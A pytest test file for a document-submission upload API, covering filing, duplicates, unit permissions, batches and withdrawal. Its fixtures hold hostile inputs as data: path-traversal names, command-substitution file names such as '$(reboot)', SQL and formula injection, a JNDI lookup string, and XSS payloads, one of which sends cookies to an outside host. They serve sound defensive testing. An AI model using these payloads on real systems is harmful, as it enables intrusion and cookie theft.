"""One file comes in: kept, told apart, answered; whatever it is called and whatever is said of it."""

import hashlib

import pytest
from sqlalchemy import func, select

from service.store import schema, submissions
from service.store.sight import Sight
from tests.service.intake.sending import OTHER, UNIT, open_batch, send, send_named, text_of
from tests.service.working import drain

ALL = Sight(everything=True)
# Every name is either kept, cleaned, under the second, or refused with a sentence (None).
NASTY = {
    "../../etc/passwd": "passwd",
    "..\\..\\windows\\system32\\案例.docx": "案例.docx",
    "C:\\材料\\案例.docx": "案例.docx",
    "/etc/shadow": "shadow",
    "a/../../b.docx": "b.docx",
    "./案例.docx": "案例.docx",
    "....//案例.docx": "案例.docx",
    "\\\\server\\share\\x.docx": "x.docx",
    "..": None,
    ".": None,
    "...": None,
    " . ": None,
    "/": None,
    "\\": None,
    "   ": None,
    "": None,
    "案例\x00.docx": "案例.docx",
    "案例.docx\x00.exe": "案例.docx.exe",
    "案例\x01\x02\x1b[31m.docx": "案例[31m.docx",
    "案例\t一.docx": "案例 一.docx",
    "案例\u202excod.exe": "案例xcod.exe",
    "\u2066案例\u2069.docx": "案例.docx",
    "\ufeff案例.docx": "案例.docx",
    "案\u200b例.docx": "案例.docx",
    "案\u00ad例.docx": "案例.docx",
    "\u2028案例\u2029.docx": "案例 .docx",
    "CON": "CON",
    "con.docx": "con.docx",
    "NUL.txt": "NUL.txt",
    "LPT1.docx": "LPT1.docx",
    "aux.docx. . .": "aux.docx. . .",
    "案例.docx::$DATA": "案例.docx::$DATA",
    "案例.docx%00.exe": "案例.docx%00.exe",
    "%2e%2e%2f%2e%2e%2fetc": "%2e%2e%2f%2e%2e%2fetc",
    "👩‍🏫的一天🎉.docx": "👩‍🏫的一天🎉.docx",
    "𠮷𠀀𪚥.docx": "𠮷𠀀𪚥.docx",
    "cafe\u0301.docx": "café.docx",
    "案例" * 2048 + ".docx": None,
    "a" * 255: "a" * 255,
    "a" * 256: None,
    "é" * 250: "é" * 250,
    "~$案例.docx": "~$案例.docx",
    ".docx": ".docx",
    ".htaccess": ".htaccess",
    "案例": "案例",
    "案例.": "案例.",
    "案例.docx.exe": "案例.docx.exe",
    "案例.DOCX": "案例.DOCX",
    "-rf *": "-rf *",
    "$(reboot).docx": "$(reboot).docx",
    "`id`.docx": "`id`.docx",
    "'; DROP TABLE service_submission;--.docx": "'; DROP TABLE service_submission;--.docx",
    "<script>alert(1)</script>.docx": "script>.docx",
    "<img src=x onerror=alert(1)>.docx": "<img src=x onerror=alert(1)>.docx",
    "{{7*7}}.docx": "{{7*7}}.docx",
    "${jndi:ldap://x}.docx": "x}.docx",
    "=cmd|' /C calc'!A0.docx": "C calc'!A0.docx",
    "@SUM(1+1).docx": "@SUM(1+1).docx",
    "案例;名.docx": "案例;名.docx",
    "案例,名.docx": "案例,名.docx",
    "案例|名?*:.docx": "案例|名?*:.docx",
    "ﬁle.docx": "ﬁle.docx",
    "ＡＢＣ．docx": "ＡＢＣ．docx",
    "\U000f0000.docx": "\U000f0000.docx",
    "\uffff.docx": "\uffff.docx",
}
XSS = [
    template.format(script)
    for script in ("alert(1)", "alert`1`", "alert(String.fromCharCode(88))", "fetch('//x.cn/'+document.cookie)")
    for template in (
        "<script>{}</script>",
        '"><script>{}</script>',
        "<img src=x onerror={}>",
        "<svg/onload={}>",
        "javascript:{}",
        "'-{}-'",
        "</title><script>{}</script>",
        "<iframe srcdoc='<script>{}</script>'>",
        '<a href="data:text/html,<script>{}</script>">x</a>',
        "{{{{{}}}}}",
    )
]


def count(store):
    with store.read() as tx:
        return tx.execute(select(func.count()).select_from(schema.submission)).scalar_one()


def file_of(store, submission_id):
    with store.read() as tx:
        return submissions.person_of(tx, store.sealer, submission_id)["file"]


def row_of(store, submission_id):
    with store.read() as tx:
        return submissions.one(tx, submission_id, ALL)


def test_a_file_is_kept_and_the_answer_says_where_to_ask(client_of, store, settings):
    client = client_of("administrator")
    answer = send(client, kind="典型工作案例", title="一", unit=UNIT, project="国培", received="2024年1月20日 9:30")
    assert answer.status_code == 202
    body = answer.json()
    assert answer.headers["location"] == body["self"] == f"/api/v1/submissions/{body['id']}"
    assert int(answer.headers["retry-after"]) > 0
    assert (body["sha256"], body["size"]) == (hashlib.sha256(text_of()).hexdigest(), len(text_of()))
    assert (body["kind"], body["project"], body["unit"]) == ("work_case", "国培计划", UNIT)
    assert body["received"] == "2024-01-20T09:30:00+08:00"
    drain(store, settings)
    row = row_of(store, body["id"])
    assert (row["state"], row["kind"], row["project"], row["unit"]) == ("done", "work_case", "国培计划", UNIT)


def test_what_was_said_by_key_is_not_lost_when_the_text_is_read(client_of, store, settings):
    new = send(client_of("administrator"), kind="growth_story").json()["id"]
    drain(store, settings)
    assert row_of(store, new)["kind"] == "growth_story"


def test_the_same_bytes_are_told_within_what_one_may_see(client_of):
    mine, theirs, admin = client_of("submitter", UNIT), client_of("submitter", OTHER), client_of("administrator")
    first = send(mine).json()
    assert first["duplicates"] == []
    assert send(theirs).json()["duplicates"] == []
    assert send(mine, name="另一个名字.docx").json()["duplicates"] == [first["id"]]
    assert len(send(admin).json()["duplicates"]) == 3


def test_a_submitter_hands_in_for_its_own_unit_only(client_of, store):
    client = client_of("submitter", UNIT)
    assert row_of(store, send(client).json()["id"])["unit"] == UNIT
    assert send(client, unit=f" {UNIT} ").status_code == 202
    refused = send(client, unit=OTHER)
    assert (refused.status_code, refused.json()["code"]) == (403, "unit.other")
    assert UNIT in refused.json()["title"]
    assert send(client, priority="1").json()["code"] == "forbidden.priority"


@pytest.mark.parametrize(
    ("fields", "code"),
    [
        ({"kind": "诗歌"}, "kind.unknown"),
        ({"rulebook": "../../etc/passwd"}, "rulebook.unknown"),
        ({"rulebook": "x.toml"}, "rulebook.unknown"),
        ({"received": "去年冬天"}, "manifest.date"),
        ({"received": "9999-12-31 23:59-1200"}, "manifest.date"),
        ({"received": "0001-01-01"}, "manifest.date"),
        ({"external_similarity": "nan"}, "manifest.share"),
        ({"external_similarity": "1e999"}, "manifest.share"),
        ({"external_ai": "-1"}, "manifest.share"),
        ({"title": "题" * 301}, "field.long"),
        ({"batch": "nowhere"}, "not_found"),
        ({"batch": "' OR 1=1 --"}, "not_found"),
        ({"replaces": "nowhere"}, "not_found"),
        ({"priority": "9" * 40}, "request.invalid"),
        ({"priority": "high"}, "request.invalid"),
    ],
)
def test_what_makes_no_sense_is_refused_with_a_sentence_and_nothing_is_kept(client_of, store, fields, code):
    answer = send(client_of("administrator"), **fields)
    assert 400 <= answer.status_code < 500
    assert answer.json()["code"] == code
    assert answer.json()["title"] and answer.json()["advice"]
    assert count(store) == 0
    with store.read() as tx:
        assert tx.execute(select(func.count()).select_from(schema.file)).scalar_one() == 0


def test_sixty_nasty_names_are_kept_clean_or_refused(client_of, store):
    client = client_of("administrator")
    assert len(NASTY) >= 60
    seen = {}
    for name, kept in NASTY.items():
        answer = send_named(client, name)
        if kept is None:
            # The longest are refused by the parser of multipart before we see them.
            assert answer.json()["code"] in ("file.name", "request.form"), name[:40]
            assert answer.status_code in (400, 422)
        else:
            assert answer.status_code == 202, (name[:40], answer.text)
            seen[name] = file_of(store, answer.json()["id"])
    assert seen == {name: kept for name, kept in NASTY.items() if kept is not None}


@pytest.mark.parametrize(
    "raw",
    [b'filename=""', b"", b'filename="a\x00b.docx"', b'filename="\xd5\xc5.docx"', b"filename*=UTF-8''%E4%B8%80.docx"],
)
def test_raw_names_of_a_part_are_kept_or_refused(client_of, raw):
    disposition = b'form-data; name="file"' + (b"; " + raw if raw else b"")
    body = b"--b\r\nContent-Disposition: " + disposition + b"\r\n\r\ntext\r\n--b--\r\n"
    headers = {"Content-Type": "multipart/form-data; boundary=b"}
    answer = client_of("administrator").post("/api/v1/submissions", content=body, headers=headers)
    assert answer.status_code in (202, 400, 422)
    assert answer.status_code == 202 or answer.json()["title"]


@pytest.mark.parametrize("charset", ["unicode_escape", "utf-16", "rot13", "zlib", "no-such", "x" * 5000])
def test_odd_charsets_do_no_harm(client_of, charset):
    body = (
        b'--b\r\nContent-Disposition: form-data; name="title"\r\n\r\n\\ud800\\udc00\x00\xff\r\n'
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.docx"\r\n\r\ntext\r\n--b--\r\n'
    )
    headers = {"Content-Type": f"multipart/form-data; boundary=b; charset={charset}"}
    assert client_of("administrator").post("/api/v1/submissions", content=body, headers=headers).status_code < 500


def test_scripts_in_the_metadata_come_back_as_data(client_of):
    client = client_of("administrator")
    assert len(XSS) == 40
    for text in XSS:
        answer = send(client, b"text", title=text, project=text, unit=text)
        assert answer.status_code == 202
        assert answer.json()["title"] == answer.json()["project"] == answer.json()["unit"] == text
        refused = send(client, b"text", kind=text)
        assert refused.status_code == 422
        for a in (answer, refused):
            assert a.headers["content-type"] in ("application/json", "application/problem+json")
            assert a.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("odd", ["a%00b", "%ed%a0%80", "%ff", "x" * 5000])
def test_odd_ids_in_an_address_are_no_fault(client_of, odd):
    client = client_of("administrator")
    for thing in ("submissions", "batches"):
        answers = [client.get(f"/api/v1/{thing}/{odd}"), client.post(f"/api/v1/{thing}/{odd}/cancel")]
        assert {a.status_code for a in answers} <= {404, 422}
    new = send(client).json()["id"]
    assert client.get(f"/api/v1/submissions/{odd}/original").status_code in (404, 422)
    assert client.get(f"/api/v1/submissions/{new}/original?reason={odd}").status_code in (200, 422)


def test_an_empty_file_and_a_missing_one_are_refused(client_of):
    client = client_of("administrator")
    assert send(client, b"").json()["code"] == "empty"
    assert client.post("/api/v1/submissions", data={"title": "一"}).json()["code"] == "request.invalid"
    assert client.post("/api/v1/submissions", data={"file": "text"}).json()["code"] == "request.invalid"
    assert client.post("/api/v1/submissions", json={"file": "text"}).status_code == 422


def test_a_form_file_comes_along(client_of, store):
    files = {"file": ("案例.docx", text_of()), "form": ("作者信息表.docx", text_of(2))}
    new = client_of("administrator").post("/api/v1/submissions", files=files).json()["id"]
    row = row_of(store, new)
    assert row["form"] == hashlib.sha256(text_of(2)).hexdigest()


# -- batches ----------------------------------------------------------------------------------------------------------------


def test_an_open_batch_takes_single_submissions_until_it_is_sealed(client_of, store):
    admin, unit = client_of("administrator"), client_of("submitter", UNIT)
    batch = open_batch(admin)
    for _ in range(3):
        assert send(unit, batch=batch).json()["batch"] == batch
    with store.read() as tx:
        cases = tx.execute(select(schema.submission.c.case)).scalars().all()
    assert len(set(cases)) == 3
    assert admin.post(f"/api/v1/batches/{batch}/seal").json()["state"] == "sealed"
    refused = send(unit, batch=batch)
    assert (refused.status_code, refused.json()["code"]) == (409, "batch.not_open")


def test_a_batch_of_another_unit_is_not_there(client_of):
    batch = open_batch(client_of("submitter", OTHER))
    assert send(client_of("submitter", UNIT), batch=batch).status_code == 404


def test_the_rulebook_of_a_batch_holds_for_what_is_in_it(client_of, store):
    admin = client_of("administrator")
    batch = open_batch(admin, rulebook="henan-2023-950")
    assert row_of(store, send(admin, batch=batch).json()["id"])["rulebook"] == "henan-2023-950"


# -- taking back, another version -------------------------------------------------------------------------------------------


def documents(store):
    return len(store.library())


def test_what_is_withdrawn_leaves_the_archive_and_the_list_of_duplicates(client_of, store, settings):
    client = client_of("submitter", UNIT)
    new = send(client).json()["id"]
    drain(store, settings)
    assert documents(store) == 1
    for _ in range(2):
        assert client.post(f"/api/v1/submissions/{new}/cancel").json() == {"id": new, "state": "cancelled"}
    assert documents(store) == 0
    assert row_of(store, new)["state"] == "cancelled"
    assert send(client).json()["duplicates"] == []


def test_a_unit_can_not_withdraw_what_was_decided_or_closed(client_of, store):
    admin, client = client_of("administrator"), client_of("submitter", UNIT)
    batch = open_batch(admin)
    decided, member = send(client).json()["id"], send(client, batch=batch).json()["id"]
    with store.write() as tx:
        submissions.change(tx, decided, decision="pass")
    admin.post(f"/api/v1/batches/{batch}/close")
    for submission_id, code in ((decided, "submission.decided"), (member, "batch.closed")):
        refused = client.post(f"/api/v1/submissions/{submission_id}/cancel")
        assert (refused.status_code, refused.json()["code"]) == (409, code)
        assert row_of(store, submission_id)["state"] == "queued"
        refused = send(client, text_of(2), replaces=submission_id)
        assert (refused.status_code, refused.json()["code"]) == (409, code)
    assert admin.post(f"/api/v1/submissions/{decided}/cancel").status_code == 200


def test_a_new_version_takes_the_place_of_the_one_that_was_returned(client_of, store, settings):
    admin, client = client_of("administrator"), client_of("submitter", UNIT)
    batch = open_batch(admin)
    old = send(client, batch=batch).json()["id"]
    drain(store, settings)
    with store.write() as tx:
        submissions.change(tx, old, decision="return")
    admin.post(f"/api/v1/batches/{batch}/seal")
    new = send(client, text_of(2), replaces=old).json()
    assert (new["replaces"], new["batch"]) == (old, batch)
    drain(store, settings)
    before, after = row_of(store, old), row_of(store, new["id"])
    assert (before["state"], after["state"], after["replaces"]) == ("cancelled", "done", old)
    assert before["case"] == after["case"]
    assert documents(store) == 1
    again = send(client, text_of(3), replaces=old)
    assert (again.status_code, again.json()["code"]) == (409, "submission.cancelled")


def test_nobody_replaces_what_is_another_units(client_of, store):
    old = send(client_of("submitter", OTHER)).json()["id"]
    assert send(client_of("submitter", UNIT), text_of(2), replaces=old).status_code == 404
    assert row_of(store, old)["state"] == "queued"
